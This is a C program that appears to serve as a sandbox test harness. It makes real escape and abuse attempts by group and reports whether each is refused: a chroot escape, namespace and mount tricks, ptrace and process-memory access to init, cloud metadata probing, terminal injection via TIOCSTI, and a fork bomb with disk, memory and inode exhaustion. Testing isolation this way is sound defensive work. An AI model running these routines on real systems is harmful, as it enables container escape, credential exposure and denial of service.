/* Real attempts against a box, one group at a time: `abuse GROUP` prints `name=outcome` lines.
 * An outcome is the name of the error, `allowed`, or what the attempt says of itself. Nothing here is harmless
 * outside a box: the tests only ever run it in one. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/capability.h>
#include <linux/netlink.h>
#include <linux/perf_event.h>
#include <linux/rtnetlink.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/personality.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statfs.h>
#include <sys/swap.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static void say(const char *name, const char *outcome) { printf("%s=%s\n", name, outcome); fflush(stdout); }

static void tell(const char *name, long value) {
  say(name, value == -1 ? (strerrorname_np(errno) ? strerrorname_np(errno) : "?") : "allowed");
}

#define TRY(name, attempt) do { errno = 0; tell(name, (long)(attempt)); } while (0)

/* Runs an attempt in a child, for what changes or kills the process: its exit code 0 is `allowed`. */
#define CHILD(name, attempt) do { \
    pid_t child_ = fork(); int status_; \
    if (child_ == 0) { errno = 0; long r_ = (long)(attempt); _exit(r_ == -1 ? errno : 0); } \
    waitpid(child_, &status_, 0); \
    if (WIFSIGNALED(status_)) say(name, sigabbrev_np(WTERMSIG(status_))); \
    else { errno = WEXITSTATUS(status_); tell(name, errno ? -1 : 0); } } while (0)

static int open_or(const char *path, int flags) { int fd = open(path, flags | O_CLOEXEC | O_NONBLOCK | O_NOCTTY); if (fd >= 0) close(fd); return fd; }

static void kernel(void) {
  static char page[4096], attr_bytes[128];
  TRY("add_key", syscall(SYS_add_key, "user", "abuse", "x", 1, -3));
  TRY("request_key", syscall(SYS_request_key, "user", "abuse", NULL, 0));
  TRY("keyctl", syscall(SYS_keyctl, 0, -3, 1));
  TRY("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | 1));
  TRY("io_uring_setup", syscall(SYS_io_uring_setup, 4, page));
  TRY("bpf", syscall(SYS_bpf, 0, page, 64));
  memcpy(attr_bytes, &(struct perf_event_attr){.type = 1, .size = sizeof(struct perf_event_attr), .exclude_kernel = 1}, 112);
  TRY("perf_event_open", syscall(SYS_perf_event_open, attr_bytes, 0, -1, -1, 0));
  TRY("init_module", syscall(SYS_init_module, page, 64, ""));
  TRY("finit_module", syscall(SYS_finit_module, 0, "", 0));
  TRY("delete_module", syscall(SYS_delete_module, "loop", O_NONBLOCK));
  TRY("kexec_load", syscall(SYS_kexec_load, 0, 0, NULL, 0));
  memset(page, 0, sizeof page); *(unsigned *)page = 8;
  TRY("open_by_handle_at", syscall(SYS_open_by_handle_at, AT_FDCWD, page, O_RDONLY));
  TRY("name_to_handle_at", syscall(SYS_name_to_handle_at, AT_FDCWD, "/", page, page + 512, 0));
  TRY("fanotify_init", syscall(SYS_fanotify_init, 0, 0));
  TRY("acct", syscall(SYS_acct, "/tmp/acct"));
  TRY("quotactl", syscall(SYS_quotactl, 0x80000400, "/dev/vda", 0, page));
  TRY("swapon", syscall(SYS_swapon, "/tmp/swap", 0));
  TRY("swapoff", syscall(SYS_swapoff, "/tmp/swap"));
  TRY("reboot", syscall(SYS_reboot, 0x12345678, 0x9abcdef0, 0x01234567, NULL));
  TRY("sethostname", sethostname("abuse", 5));
  TRY("setdomainname", setdomainname("abuse", 5));
  TRY("syslog", syscall(SYS_syslog, 3, page, sizeof page));
  TRY("vhangup", vhangup());
  TRY("mbind", syscall(SYS_mbind, page, 4096, 0, NULL, 0, 0));
  TRY("set_mempolicy", syscall(SYS_set_mempolicy, 0, NULL, 0));
  TRY("move_pages", syscall(SYS_move_pages, 0, 0, NULL, NULL, NULL, 0));
  TRY("migrate_pages", syscall(SYS_migrate_pages, 0, 0, NULL, NULL));
  CHILD("personality", personality(ADDR_NO_RANDOMIZE));
  TRY("landlock", syscall(444, NULL, 0, 1));
  TRY("memfd_secret", syscall(447, 0));
  TRY("vmsplice", syscall(SYS_vmsplice, -1, page, 1, 0));
}

static long clone_raw(unsigned long flags) {
  long pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
  if (pid == 0) _exit(0);
  if (pid > 0) waitpid(pid, NULL, 0);
  return pid;
}

static void namespaces(void) {
  CHILD("unshare_user", unshare(CLONE_NEWUSER));
  CHILD("unshare_mount", unshare(CLONE_NEWNS));
  CHILD("unshare_net", unshare(CLONE_NEWNET));
  CHILD("unshare_pid", unshare(CLONE_NEWPID));
  CHILD("unshare_time", unshare(0x80));
  int own = open("/proc/self/ns/mnt", O_RDONLY), first = open("/proc/1/ns/mnt", O_RDONLY);
  CHILD("setns_own", setns(own, 0));
  say("open_ns_of_init", first < 0 ? "refused" : "opened");
  TRY("clone_user", clone_raw(CLONE_NEWUSER));
  TRY("clone_user_mount", clone_raw(CLONE_NEWUSER | CLONE_NEWNS));
  TRY("clone_net", clone_raw(CLONE_NEWNET));
  TRY("clone_high_bits", clone_raw(CLONE_NEWUSER | (1UL << 40)));
  uint64_t arguments[11] = {CLONE_NEWUSER, 0, 0, 0, SIGCHLD};
  errno = 0;
  long pid = syscall(SYS_clone3, arguments, sizeof arguments);
  if (pid == 0) _exit(0);
  tell("clone3", pid);
}

static long chroot_escape(void) {
  struct stat before, after;
  if (stat("/etc/hostname", &before)) return -1;
  mkdir("/tmp/jail", 0755);
  int outside = open("/", O_RDONLY);
  if (chroot("/tmp/jail")) return -1;
  if (fchdir(outside)) return -1;
  for (int i = 0; i < 64; i++) if (chdir("..")) break;
  if (chroot(".")) return -1;
  if (stat("/etc/hostname", &after)) return -1;
  errno = EXDEV; /* another root than the box's would be an escape */
  return before.st_ino == after.st_ino && before.st_dev == after.st_dev ? 0 : -1;
}

static void mounts(void) {
  mkdir("/tmp/place", 0755);
  TRY("mount_tmpfs", mount("t", "/tmp/place", "tmpfs", 0, ""));
  TRY("mount_proc", mount("p", "/tmp/place", "proc", 0, ""));
  TRY("mount_sysfs", mount("s", "/tmp/place", "sysfs", 0, ""));
  TRY("mount_cgroup", mount("c", "/tmp/place", "cgroup2", 0, ""));
  TRY("mount_bind", mount("/usr", "/tmp/place", NULL, MS_BIND | MS_REC, NULL));
  TRY("mount_overlay", mount("o", "/tmp/place", "overlay", 0, "lowerdir=/etc:/usr"));
  TRY("remount_root", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  TRY("remount_usr", mount(NULL, "/usr", NULL, MS_REMOUNT | MS_BIND, NULL));
  TRY("remount_proc_sys", mount(NULL, "/proc/sys", NULL, MS_REMOUNT | MS_BIND, NULL));
  TRY("umount_mask", umount2("/proc/kallsyms", MNT_DETACH));
  TRY("umount_proc_sys", umount2("/proc/sys", MNT_DETACH));
  TRY("umount_usr", umount2("/usr", MNT_DETACH));
  TRY("move_root", mount("/", "/tmp/place", NULL, MS_MOVE, NULL));
  TRY("propagate", mount(NULL, "/", NULL, MS_SHARED | MS_REC, NULL));
  TRY("pivot_root", syscall(SYS_pivot_root, "/tmp", "/tmp/place"));
  TRY("fsopen", syscall(430, "tmpfs", 0));
  TRY("fspick", syscall(433, AT_FDCWD, "/", 0));
  TRY("open_tree", syscall(428, AT_FDCWD, "/", 1));
  TRY("move_mount", syscall(429, AT_FDCWD, "/usr", AT_FDCWD, "/tmp/place", 0));
  uint64_t attributes[4] = {0, 1, 0, 0};
  TRY("mount_setattr", syscall(442, AT_FDCWD, "/usr", 0x8000, attributes, sizeof attributes));
  CHILD("chroot", chroot("/tmp"));
  CHILD("chroot_escape", chroot_escape());
}

static void family(const char *name, int domain, int type, int protocol) {
  errno = 0;
  int fd = socket(domain, type, protocol);
  tell(name, fd);
  if (fd >= 0) close(fd);
}

static long netlink_answer(int protocol, void *message, size_t size) {
  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, protocol);
  if (fd < 0) return -1;
  struct timeval soon = {2, 0};
  setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &soon, sizeof soon);
  if (send(fd, message, size, 0) < 0) { int why = errno; close(fd); errno = why; return -1; }
  char reply[4096];
  ssize_t got = recv(fd, reply, sizeof reply, 0);
  int why = errno;
  close(fd);
  if (got < 0) { errno = why; return -1; }
  struct nlmsghdr *header = (struct nlmsghdr *)reply;
  if (header->nlmsg_type != NLMSG_ERROR) return 0;
  int code = ((struct nlmsgerr *)NLMSG_DATA(header))->error;
  errno = -code;
  return code ? -1 : 0;
}

static void sockets(void) {
  family("vsock", 40, SOCK_STREAM, 0);
  family("alg", 38, SOCK_SEQPACKET, 0);
  family("xdp", 44, SOCK_RAW, 0);
  family("key", 15, SOCK_RAW, 2);
  family("bluetooth", 31, SOCK_RAW, 1);
  family("tipc", 30, SOCK_SEQPACKET, 0);
  family("packet", 17, SOCK_RAW, 0);
  family("packet_dgram", 17, SOCK_DGRAM, htons(3));
  family("raw", AF_INET, SOCK_RAW, IPPROTO_ICMP);
  family("raw6", AF_INET6, SOCK_RAW, 58);
  family("inet", AF_INET, SOCK_STREAM, 0);
  family("unix", AF_UNIX, SOCK_STREAM, 0);
  family("netlink_nft", AF_NETLINK, SOCK_RAW, 12);
  int pair[2];
  TRY("socketpair_vsock", socketpair(40, SOCK_STREAM, 0, pair));
  TRY("socketpair_tipc", socketpair(30, SOCK_STREAM, 0, pair));
  TRY("socketpair_unix", socketpair(AF_UNIX, SOCK_STREAM, 0, pair));
  TRY("socket_high_bits", syscall(SYS_socket, 40 | (1UL << 32), SOCK_STREAM, 0));
  struct { struct nlmsghdr head; struct ifinfomsg link; char name[12]; } dummy = {
      {sizeof dummy, RTM_NEWLINK, NLM_F_REQUEST | NLM_F_CREATE | NLM_F_ACK, 1, 0}, {.ifi_family = AF_UNSPEC}, {10, 0, 3, 0, 'e', 'v', 'i', 'l', '0', 0}};
  TRY("netlink_new_link", netlink_answer(0, &dummy, sizeof dummy));
  struct { struct nlmsghdr head; struct rtmsg route; } route = {
      {sizeof route, RTM_NEWROUTE, NLM_F_REQUEST | NLM_F_CREATE | NLM_F_ACK, 1, 0}, {.rtm_family = AF_INET, .rtm_table = 254, .rtm_scope = 253, .rtm_type = 1}};
  TRY("netlink_new_route", netlink_answer(0, &route, sizeof route));
  struct { struct nlmsghdr head; unsigned char family, version; uint16_t resource; } table = {
      {sizeof table, (10 << 8) | 0, NLM_F_REQUEST | NLM_F_ACK | NLM_F_CREATE, 1, 0}, 2, 0, 0};
  TRY("netlink_new_table", netlink_answer(12, &table, sizeof table));
}

static void dial(const char *name, const char *address, int port) {
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, address, &to.sin_addr);
  struct timeval soon = {1, 0};
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &soon, sizeof soon);
  TRY(name, connect(fd, (struct sockaddr *)&to, sizeof to));
  close(fd);
}

static void network(int port, const char *abstract, const char *path) {
  dial("test_net", "192.0.2.1", 80);
  dial("metadata", "169.254.169.254", 80);
  dial("resolver", "9.9.9.9", 53);
  dial("private_net", "10.0.0.1", 80);
  dial("host_loopback", "127.0.0.1", port);
  struct sockaddr_un to = {.sun_family = AF_UNIX};
  int fd = socket(AF_UNIX, SOCK_STREAM, 0);
  strncpy(to.sun_path + 1, abstract, 90);
  TRY("host_abstract", connect(fd, (struct sockaddr *)&to, offsetof(struct sockaddr_un, sun_path) + 1 + strlen(abstract)));
  strncpy(to.sun_path, path, 100);
  TRY("host_unix", connect(fd, (struct sockaddr *)&to, sizeof to));
}

static void devices(void) {
  unlink("/tmp/disk"); unlink("/tmp/mem"); unlink("/tmp/pipe");
  TRY("mknod_disk", mknod("/tmp/disk", S_IFBLK | 0600, makedev(254, 0)));
  TRY("mknod_mem", mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1)));
  TRY("mknod_in_dev", mknod("/dev/disk", S_IFBLK | 0600, makedev(254, 0)));
  TRY("mknod_fifo", mknod("/tmp/pipe", S_IFIFO | 0600, 0));
  const char *paths[] = {"/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/kvm", "/dev/fuse",
                         "/dev/net/tun", "/dev/loop-control", "/dev/vsock", "/dev/vhost-net", "/dev/userfaultfd", "/sys"};
  for (size_t i = 0; i < sizeof paths / sizeof *paths; i++) TRY(paths[i], open_or(paths[i], O_RDONLY));
}

static void scheduling(void) {
  struct sched_param first = {1};
  struct timex change = {.modes = ADJ_TICK, .tick = 10001};
  struct timespec now = {1000000000, 0};
  struct rlimit wide = {1 << 20, 1 << 20};
  TRY("sched_fifo", sched_setscheduler(0, SCHED_FIFO, &first));
  TRY("sched_rr", sched_setscheduler(0, SCHED_RR, &first));
  TRY("nice", setpriority(PRIO_PROCESS, 0, -10));
  TRY("nice_of_init", setpriority(PRIO_PROCESS, 1, 10));
  TRY("ioprio_realtime", syscall(SYS_ioprio_set, 1, 0, 1 << 13));
  TRY("adjtimex", adjtimex(&change));
  TRY("clock_adjtime", clock_adjtime(CLOCK_REALTIME, &change));
  TRY("clock_settime", clock_settime(CLOCK_REALTIME, &now));
  TRY("settimeofday", syscall(SYS_settimeofday, &now, NULL));
  TRY("raise_nofile", setrlimit(RLIMIT_NOFILE, &wide));
  TRY("raise_core", setrlimit(RLIMIT_CORE, &wide));
  TRY("rlimit_of_init", prlimit(1, RLIMIT_NOFILE, &wide, NULL));
  TRY("ambient", prctl(PR_CAP_AMBIENT, PR_CAP_AMBIENT_RAISE, 21, 0, 0));
  struct __user_cap_header_struct head = {_LINUX_CAPABILITY_VERSION_3, 0};
  struct __user_cap_data_struct all[2] = {{~0u, ~0u, ~0u}, {~0u, ~0u, ~0u}};
  TRY("capset_all", syscall(SYS_capset, &head, all));
}

static void attack(const char *who, pid_t pid) {
  char name[64], path[64];
  static char secret[64];
#define NAMED(what) (snprintf(name, sizeof name, "%s_%s", who, what), name)
#define PATH(what) (snprintf(path, sizeof path, "/proc/%d/%s", pid, what), path)
  TRY(NAMED("attach"), ptrace(PTRACE_ATTACH, pid, 0, 0));
  TRY(NAMED("seize"), ptrace(PTRACE_SEIZE, pid, 0, 0));
  uintptr_t address = (uintptr_t)secret; /* a mapped address in an unrelated process is as good as any: access comes first */
  struct iovec local = {secret, sizeof secret}, remote = {(void *)address, sizeof secret};
  TRY(NAMED("vm_read"), process_vm_readv(pid, &local, 1, &remote, 1, 0));
  TRY(NAMED("vm_write"), process_vm_writev(pid, &local, 1, &remote, 1, 0));
  TRY(NAMED("mem"), open_or(PATH("mem"), O_RDWR));
  TRY(NAMED("environ"), open_or(PATH("environ"), O_RDONLY));
  TRY(NAMED("maps"), open_or(PATH("maps"), O_RDONLY));
  TRY(NAMED("exe"), open_or(PATH("exe"), O_WRONLY));
  TRY(NAMED("root"), open_or(PATH("root/etc/hostname"), O_RDONLY));
  TRY(NAMED("cwd"), open_or(PATH("cwd"), O_RDONLY));
  TRY(NAMED("fd"), open_or(PATH("fd"), O_RDONLY | O_DIRECTORY));
  TRY(NAMED("fd3"), open_or(PATH("fd/3"), O_RDWR));
  TRY(NAMED("oom_score_adj"), open_or(PATH("oom_score_adj"), O_WRONLY));
  int handle = syscall(SYS_pidfd_open, pid, 0);
  TRY(NAMED("getfd"), syscall(SYS_pidfd_getfd, handle, 3, 0));
  TRY(NAMED("getfd0"), syscall(SYS_pidfd_getfd, handle, 0, 0));
  TRY(NAMED("kcmp"), syscall(SYS_kcmp, pid, getpid(), 0, 3, 3));
  if (handle >= 0) close(handle);
}

static void processes(void) {
  attack("init", 1);
  attack("shim", getppid());
  DIR *folder = opendir("/proc");
  int seen = 0;
  for (struct dirent *entry; (entry = readdir(folder));) seen += entry->d_name[0] >= '1' && entry->d_name[0] <= '9';
  printf("seen=%d\n", seen);
}

static void terminal(void) {
  int master = posix_openpt(O_RDWR | O_NOCTTY);
  grantpt(master); unlockpt(master);
  setsid();
  int slave = open(ptsname(master), O_RDWR);
  char key = 'x', sub = 2;
  tell("pty", slave);
  ioctl(slave, TIOCSCTTY, 0);
  TRY("tiocsti", ioctl(slave, TIOCSTI, &key));
  TRY("tiocsti_high_bits", syscall(SYS_ioctl, slave, 0x5412UL | (1UL << 32), &key));
  TRY("tioclinux", ioctl(slave, TIOCLINUX, &sub));
  TRY("console", open_or("/dev/console", O_RDWR));
}

static void architectures(void) {
#ifdef __x86_64__
  char page[4096];
  TRY("iopl", syscall(SYS_iopl, 3));
  TRY("ioperm", syscall(SYS_ioperm, 0x80, 1, 1));
  TRY("modify_ldt", syscall(SYS_modify_ldt, 0, page, sizeof page));
  CHILD("i386", ({ long r; __asm__ volatile("int $0x80" : "=a"(r) : "a"(20) : "memory"); r > 0 ? 0 : -1; }));
  CHILD("x32", syscall(0x40000000 | 39));
#endif
}

static void identity(void) {
  printf("uid=%d\neuid=%d\n", getuid(), geteuid());
  CHILD("setuid_unmapped", setuid(70000));
  CHILD("setuid_other", setuid(1000));
  CHILD("no_new_privs_off", prctl(PR_SET_NO_NEW_PRIVS, 0, 0, 0, 0));
  CHILD("seccomp_strict", prctl(PR_SET_SECCOMP, 0, 0, 0, 0));
}

/* Resources */

static void fork_bomb(int wanted) {
  int made = 0;
  for (; made < wanted; made++) {
    pid_t child = fork();
    if (child < 0) break;
    if (child == 0) { pause(); _exit(0); }
  }
  printf("made=%d\nerror=%s\n", made, made < wanted ? strerrorname_np(errno) : "none");
  fflush(stdout);
}

static void memory(long megabytes) {
  for (long i = 0; i < megabytes; i++) {
    char *piece = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (piece == MAP_FAILED) { printf("mapped=%ld\n", i); return; }
    memset(piece, 1, 1 << 20);
  }
  printf("mapped=%ld\n", megabytes);
}

static void fill(const char *folder, long megabytes) {
  static char block[1 << 20];
  char path[256];
  memset(block, 7, sizeof block);
  long done = 0;
  for (int file = 0; done < megabytes; file++) {
    snprintf(path, sizeof path, "%s/fill%d", folder, file);
    int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0600);
    if (fd < 0) break;
    int k = 0;
    for (; k < 64 && done < megabytes; k++, done++)
      for (ssize_t at = 0, wrote; at < (ssize_t)sizeof block; at += wrote)
        if ((wrote = write(fd, block + at, sizeof block - at)) < 0) { int why = errno; close(fd); errno = why; goto full; }
    close(fd);
  }
full:
  printf("megabytes=%ld\nerror=%s\n", done, done < megabytes ? strerrorname_np(errno) : "none");
}

static void inodes(long wanted) {
  char path[64];
  long made = 0;
  mkdir("/tmp/i", 0755);
  for (; made < wanted; made++) {
    snprintf(path, sizeof path, "/tmp/i/%ld", made);
    int fd = open(path, O_WRONLY | O_CREAT, 0600);
    if (fd < 0) break;
    close(fd);
  }
  printf("made=%ld\nerror=%s\n", made, made < wanted ? strerrorname_np(errno) : "none");
}

static void open_files(long wanted) {
  long made = 0;
  for (; made < wanted; made++) if (open("/dev/null", O_RDONLY) < 0) break;
  printf("made=%ld\nerror=%s\n", made, made < wanted ? strerrorname_np(errno) : "none");
}

static void orphans(int wanted) {
  for (int i = 0; i < wanted; i++) {
    pid_t child = fork();
    if (child == 0) { if (fork() == 0) { setsid(); usleep(20000 + 100 * (i % 50)); } _exit(0); }
    if (child < 0) { printf("error=%s\n", strerrorname_np(errno)); return; }
    waitpid(child, NULL, 0);
  }
  printf("made=%d\n", wanted);
}

static void busy(void) {
  for (;;) { int fd = open("/tmp/busy", O_WRONLY | O_CREAT | O_TRUNC, 0600); for (int i = 0; i < 64; i++) if (write(fd, (char[4096]){1}, 4096) < 0) break; close(fd); }
}

int main(int argc, char **argv) {
  const char *group = argc > 1 ? argv[1] : "";
  long number = argc > 2 ? atol(argv[2]) : 0;
  if (!strcmp(group, "kernel")) kernel();
  else if (!strcmp(group, "namespaces")) namespaces();
  else if (!strcmp(group, "mounts")) mounts();
  else if (!strcmp(group, "sockets")) sockets();
  else if (!strcmp(group, "network") && argc == 5) network(number, argv[3], argv[4]);
  else if (!strcmp(group, "devices")) devices();
  else if (!strcmp(group, "scheduling")) scheduling();
  else if (!strcmp(group, "processes")) processes();
  else if (!strcmp(group, "terminal")) terminal();
  else if (!strcmp(group, "architectures")) architectures();
  else if (!strcmp(group, "identity")) identity();
  else if (!strcmp(group, "fork")) fork_bomb(number);
  else if (!strcmp(group, "memory")) memory(number);
  else if (!strcmp(group, "fill") && argc == 4) fill(argv[3], number);
  else if (!strcmp(group, "inodes")) inodes(number);
  else if (!strcmp(group, "open_files")) open_files(number);
  else if (!strcmp(group, "orphans")) orphans(number);
  else if (!strcmp(group, "busy")) busy();
  else return 2;
  return 0;
}
